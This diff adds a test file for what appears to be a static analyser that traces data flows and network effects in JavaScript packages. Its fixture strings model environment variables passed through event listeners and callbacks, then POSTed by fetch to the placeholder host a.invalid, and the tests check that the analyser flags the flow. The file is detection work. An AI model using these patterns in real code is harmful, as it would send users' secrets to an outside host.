@@ -1,0 +1,36 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+
+import { behaviourOf, flowLines } from '../../test/behave.ts';
+
+const SEND = `fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(said) })`;
+const BUS = `const { EventEmitter } = require('events'); const bus = new EventEmitter();`;
+const TELL = `bus.emit('span', process.env)`;
+
+const LISTENERS: Readonly<Record<string, string>> = {
+  'is handed through a function': `const on = heard => { bus.on('span', heard) }; on(said => ${SEND});`,
+  'is handed through one by its name': `const on = heard => { bus.on('span', heard) }; const send = said => ${SEND}; on(send);`,
+  'is made by another function': `const sender = () => said => ${SEND}; const send = sender(); bus.on('span', send);`,
+  'is made and handed through a function': `function on(heard) { bus.on('span', heard); return () => bus.off('span', heard) } const sender = () => said => ${SEND}; on(sender());`,
+};
+
+const CALLBACKS: Readonly<Record<string, string>> = {
+  'a function that is called at once': `setTimeout((() => () => fetch('https://a.invalid'))(), 1)`,
+  'one that is handed through another': `const later = run => setTimeout(run, 1); const sender = () => () => fetch('https://a.invalid'); later(sender())`,
+  'one that is kept under a name first': `const sender = () => () => fetch('https://a.invalid'); const send = sender(); process.on('exit', send)`,
+};
+
+describe('callbacks that are made', () => {
+  for (const [name, code] of Object.entries(LISTENERS))
+    it(`a listener that ${name} hears what is told`, () =>
+      assert.ok(flowLines({ 'index.js': `${BUS} ${code} ${TELL}` }).includes('process.env → fetch as content')));
+
+  for (const [name, code] of Object.entries(CALLBACKS))
+    it(`run where they are handed on: by ${name}`, () =>
+      assert.deepEqual(behaviourOf({ 'index.js': code }).effects.find(({ kind }) => kind === 'connects')?.triggers, ['import']));
+
+  it('run for nobody where the maker is only offered', () =>
+    assert.deepEqual(behaviourOf({ 'index.js': `exports.sender = () => () => fetch('https://a.invalid')` }).effects[0]?.triggers, [
+      'call',
+    ]));
+});
